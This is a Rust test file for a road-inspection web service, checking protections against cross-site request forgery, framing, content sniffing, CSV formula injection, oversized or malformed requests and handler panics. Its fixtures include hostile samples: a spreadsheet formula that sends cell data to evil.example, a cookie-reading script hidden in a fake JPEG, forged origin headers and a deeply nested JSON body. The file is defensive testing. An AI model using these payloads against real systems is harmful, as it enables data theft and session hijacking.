//! What an attacker who reads our code tries: other sites' pages acting with the user's cookie,
//! pages framed or sniffed, formulas in exports, bodies too large or not understood.

use crate::helpers::*;
use crate::photos::{finding_with, hash_of};
use reqwest::StatusCode;
use serde_json::{json, Value};

fn header(response: &reqwest::Response, name: &str) -> String {
    response.headers().get(name).map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default()
}

#[tokio::test]
async fn another_sites_page_cannot_sign_in_sign_out_or_write() {
    let app = spawn_app().await;
    let browser = app.anonymous();
    let evil = "https://evil.example";
    // Login CSRF: a form on another site posting the attacker's credentials.
    let response = browser
        .post(app.url("/api/v1/session"))
        .header("origin", evil)
        .form(&[("username", "chief01"), ("password", PASSWORD)])
        .send()
        .await
        .unwrap();
    assert!(response.headers().get("set-cookie").is_none(), "no session was started");
    let (status, code, message) = error_code(response).await;
    assert_eq!((status, code.as_str()), (StatusCode::FORBIDDEN, "cross_site"));
    assert!(!message.is_empty());
    let by_metadata = browser
        .post(app.url("/api/v1/session"))
        .header("sec-fetch-site", "cross-site")
        .json(&json!({"username": "chief01", "password": PASSWORD}))
        .send()
        .await
        .unwrap();
    assert_eq!(by_metadata.status(), StatusCode::FORBIDDEN);
    assert_eq!(app.read_ok(&browser, "me", &[]).await, Value::Null);

    // A signed-in user's cookie, used by another site's script: writes, server functions and
    // body-less posts are all refused; the page's own requests go through.
    let chief = app.user("chief01").await;
    let before = app.footprint().await;
    let op =
        json!({"id": new_uuid(), "op": {"kind": "start_inspection", "road_id": "market-road-1", "week": app.week()}});
    let write = chief.post(app.url("/api/v1/operations")).header("origin", evil).json(&op).send().await.unwrap();
    assert_eq!(write.status(), StatusCode::FORBIDDEN);
    let server_fn = chief.post(app.url("/api/chief_home")).header("sec-fetch-site", "same-site").send().await.unwrap();
    assert_eq!(server_fn.status(), StatusCode::FORBIDDEN);
    let sign_out = chief.delete(app.url("/api/v1/session")).header("origin", "null").send().await.unwrap();
    assert_eq!(sign_out.status(), StatusCode::FORBIDDEN);
    assert_eq!(app.footprint().await, before);
    let own = chief
        .post(app.url("/api/v1/operations"))
        .header("origin", app.address.as_str())
        .header("sec-fetch-site", "same-origin")
        .json(&op)
        .send()
        .await
        .unwrap();
    assert_eq!(own.status(), StatusCode::OK);
    assert_eq!(app.read_ok(&chief, "me", &[]).await["username"], "chief01", "still signed in");
}

#[tokio::test]
async fn pages_run_only_their_own_scripts_and_are_never_framed_or_kept() {
    let app = spawn_app().await;
    let chief = app.user("chief01").await;
    let page = chief.get(app.url("/roads/market-road-1")).send().await.unwrap();
    assert_eq!(page.status(), StatusCode::OK);
    let policy = header(&page, "content-security-policy");
    assert!(policy.contains("frame-ancestors 'none'") && policy.contains("'wasm-unsafe-eval'"), "{policy}");
    assert!(!policy.contains("unsafe-inline"), "{policy}");
    assert_eq!(header(&page, "x-content-type-options"), "nosniff");
    assert_eq!(header(&page, "x-frame-options"), "DENY");
    assert_eq!(header(&page, "referrer-policy"), "same-origin");
    assert_eq!(header(&page, "cache-control"), "no-store");
    assert_eq!(header(&page, "strict-transport-security"), "", "plain http: no HSTS");
    // Every inline script carries the nonce the policy names, and it changes per answer. The
    // page's texts ride in a data block (`text/plain`), which a browser never runs.
    let nonce = policy.split("'nonce-").nth(1).unwrap().split('\'').next().unwrap().to_owned();
    let html = page.text().await.unwrap();
    assert!(html.contains("<script"));
    assert!(html.contains("<script type=\"text/plain\" id=\"texts-zh-CN\">"), "the page's texts");
    for script in html.split("<script").skip(1) {
        let tag = script.split('>').next().unwrap();
        assert!(
            tag.contains(" src=")
                || tag.contains(&format!("nonce=\"{nonce}\""))
                || tag.starts_with(" type=\"text/plain\""),
            "a script without the nonce: {tag}"
        );
    }
    let again = chief.get(app.url("/roads/market-road-1")).send().await.unwrap();
    assert!(!header(&again, "content-security-policy").contains(&nonce), "a fresh nonce per page");

    // The service worker runs under its own script's policy: it may fetch this site's files.
    let worker = app.anonymous().get(app.url("/sw.js")).send().await.unwrap();
    assert!(header(&worker, "content-security-policy").starts_with("default-src 'self'"));

    // API answers are not kept either, and allow nothing to run.
    let api = chief.post(app.url("/api/chief_home")).send().await.unwrap();
    assert_eq!(header(&api, "cache-control"), "no-store");
    assert!(header(&api, "content-security-policy").starts_with("default-src 'none'"));
    assert_eq!(header(&api, "x-content-type-options"), "nosniff");
}

#[tokio::test]
async fn over_https_browsers_are_told_to_stay_on_it() {
    let mut config = test_config(&temp_dir(), true).await;
    config.public_url = Some("https://road.example.gov.cn".into());
    let app = spawn_app_with(config, "target/site").await;
    let page = app.anonymous().get(app.url("/login")).send().await.unwrap();
    assert_eq!(header(&page, "strict-transport-security"), "max-age=31536000");
    // The public origin's pages may sign in (behind a proxy that rewrites Host).
    let response = app
        .anonymous()
        .post(app.url("/api/v1/session"))
        .header("origin", "https://road.example.gov.cn")
        .json(&json!({"username": "chief01", "password": PASSWORD}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    assert!(header(&response, "set-cookie").contains("; Secure"));
}

#[tokio::test]
async fn a_photo_that_is_html_in_disguise_cannot_run() {
    let app = spawn_app().await;
    let chief = app.user("chief01").await;
    let mut disguised = vec![0xFF, 0xD8, 0xFF, 0xE0];
    disguised.extend_from_slice(b"<html><script>alert(document.cookie)</script></html>");
    let hash = hash_of(&disguised);
    let finding = finding_with(&app, &chief, vec![hash.clone()]).await;
    let upload = chief
        .put(app.url(&format!("/api/v1/findings/{}/photos/{}", finding.id, hash.as_str())))
        .header("content-type", "text/html")
        .body(disguised)
        .send()
        .await
        .unwrap();
    assert_eq!(upload.status(), StatusCode::NO_CONTENT);
    let photo = chief.get(app.url(&format!("/api/v1/photos/{}", hash.as_str()))).send().await.unwrap();
    assert_eq!(photo.status(), StatusCode::OK);
    assert_eq!(header(&photo, "content-type"), "image/jpeg", "the sniffed type, not the uploader's");
    assert_eq!(header(&photo, "x-content-type-options"), "nosniff");
    assert!(header(&photo, "content-security-policy").starts_with("sandbox"));
    assert_eq!(header(&photo, "cache-control"), "no-store");
}

#[tokio::test]
async fn notes_that_look_like_formulas_stay_text_in_the_csv() {
    let app = spawn_app().await;
    let chief = app.user("chief01").await;
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")";
    let mut f = app.finding(&chief, "market-road-1", "sanitation", hostile).await;
    f.note = hostile.into();
    let op = app::api::operations::Operation::RecordFinding {
        road_id: "market-road-1".into(),
        week: app.week(),
        finding: f,
    };
    assert_eq!(app.send(&chief, new_uuid(), &op).await.status(), StatusCode::OK);
    let coordinator = app.user("coordinator").await;
    let today = app.now().local_date();
    let csv = coordinator
        .get(app.url(&format!("/api/v1/exports/findings.csv?from={}&to={today}", today.add_days(-1))))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let row = csv.lines().nth(1).expect("the finding's row");
    assert!(row.contains("\"'=HYPERLINK("), "the cell starts with a quote, not a formula: {row}");
    assert!(!row.contains(",=HYPERLINK") && !row.contains(",\"=HYPERLINK"), "{row}");
}

/// The status and error of a refusal, from the JSON API (`{"error": {...}}`) or a server
/// function (the error itself).
async fn refusal(request: reqwest::RequestBuilder) -> (StatusCode, String, String) {
    let response = request.send().await.unwrap();
    let status = response.status();
    let body: Value = response.json().await.unwrap();
    let error = body.get("error").unwrap_or(&body);
    let text = |key: &str| error[key].as_str().unwrap_or_default().to_owned();
    (status, text("code"), text("message"))
}

#[tokio::test]
async fn every_client_mistake_is_a_localized_4xx() {
    let app = spawn_app().await;
    let chief = app.user("chief01").await;
    let before = app.footprint().await;
    // A server function without its argument.
    let (status, code, message) = refusal(chief.post(app.url("/api/inspection"))).await;
    assert_eq!((status, code.as_str()), (StatusCode::BAD_REQUEST, "malformed"));
    assert_eq!(message, "请求格式不正确。");
    let (status, _, message) =
        refusal(chief.post(app.url("/api/finding")).header("accept-language", "en").form(&[("identity", "x")])).await;
    assert_eq!((status, message.as_str()), (StatusCode::BAD_REQUEST, "The request was not understood."));
    // 11 MB to a server function: refused before it is read.
    let big = vec![b'a'; 11 * 1024 * 1024];
    let (status, code, _) = refusal(chief.post(app.url("/api/me")).body(big.clone())).await;
    assert_eq!((status, code.as_str()), (StatusCode::PAYLOAD_TOO_LARGE, "body_too_large"));
    let (status, code, _) =
        refusal(chief.post(app.url("/api/v1/operations")).header("content-type", "application/json").body(big)).await;
    assert_eq!((status, code.as_str()), (StatusCode::PAYLOAD_TOO_LARGE, "body_too_large"));
    // Not UTF-8, and nested past any sense.
    let (status, code, _) = refusal(
        chief
            .post(app.url("/api/v1/operations"))
            .header("content-type", "application/json")
            .body(b"{\"id\": \"\xff\xfe\"}".to_vec()),
    )
    .await;
    assert_eq!((status, code.as_str()), (StatusCode::BAD_REQUEST, "malformed"));
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let (status, code, _) =
        refusal(chief.post(app.url("/api/v1/sync")).header("content-type", "application/json").body(deep.clone()))
            .await;
    assert_eq!((status, code.as_str()), (StatusCode::BAD_REQUEST, "malformed"));
    let (status, _, _) =
        refusal(chief.post(app.url("/api/v1/session")).header("content-type", "application/json").body(deep)).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    // Absurd times and years.
    let mut f = app.finding(&chief, "market-road-1", "sanitation", "很久以前").await;
    for absurd in [i64::MIN, 0, app.now().millis() - 40 * 86_400_000] {
        f.observed_at = app::domain::time::Timestamp(absurd);
        let (status, code, _) =
            error_code(app.send(&chief, new_uuid(), &submit(&app, "market-road-1", vec![f.clone()])).await).await;
        assert_eq!((status, code.as_str()), (StatusCode::BAD_REQUEST, "observed_too_long_ago"), "{absurd}");
    }
    f.observed_at = app::domain::time::Timestamp(i64::MAX);
    let (status, code, _) =
        error_code(app.send(&chief, new_uuid(), &submit(&app, "market-road-1", vec![f])).await).await;
    assert_eq!((status, code.as_str()), (StatusCode::BAD_REQUEST, "observed_in_future"));
    let coordinator = app.user("coordinator").await;
    for query in
        ["from=-9999-01-01&to=2026-01-01", "from=2026-01-01&to=99999999-12-31", "from=0000-00-00&to=2026-01-01"]
    {
        let response = coordinator.get(app.url(&format!("/api/v1/exports/findings.csv?{query}"))).send().await.unwrap();
        assert!(response.status().is_client_error(), "{query}: {}", response.status());
    }
    for year in ["99999999999", "-5", "0", "3000"] {
        let response = coordinator.get(app.url(&format!("/api/v1/calendars/{year}"))).send().await.unwrap();
        assert!(response.status().is_client_error(), "{year}: {}", response.status());
    }
    assert_eq!(app.footprint().await, before, "no refusal wrote anything");
}

#[tokio::test]
async fn a_handler_that_panics_answers_500_and_the_server_goes_on() {
    let app = spawn_app().await;
    // The same guard the real routes pass through, around a route that panics.
    let routes = axum::Router::new()
        .route(
            "/boom",
            axum::routing::get(|| async {
                if true {
                    panic!("a bug in a handler");
                }
                "never"
            }),
        )
        .route("/fine", axum::routing::get(|| async { "fine" }));
    let router = server::startup::guarded(routes, &app.state.settings).with_state(app.state.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, router).await });
    let client = reqwest::Client::new();
    let boom = client.get(format!("http://{address}/boom")).header("accept-language", "en").send().await.unwrap();
    assert_eq!(boom.headers()["x-content-type-options"], "nosniff");
    let (status, code, message) = error_code(boom).await;
    assert_eq!((status, code.as_str()), (StatusCode::INTERNAL_SERVER_ERROR, "internal"));
    assert!(!message.contains("a bug"), "nothing of the panic reaches the client: {message}");
    let fine = client.get(format!("http://{address}/fine")).send().await.unwrap();
    assert_eq!(fine.text().await.unwrap(), "fine");
}
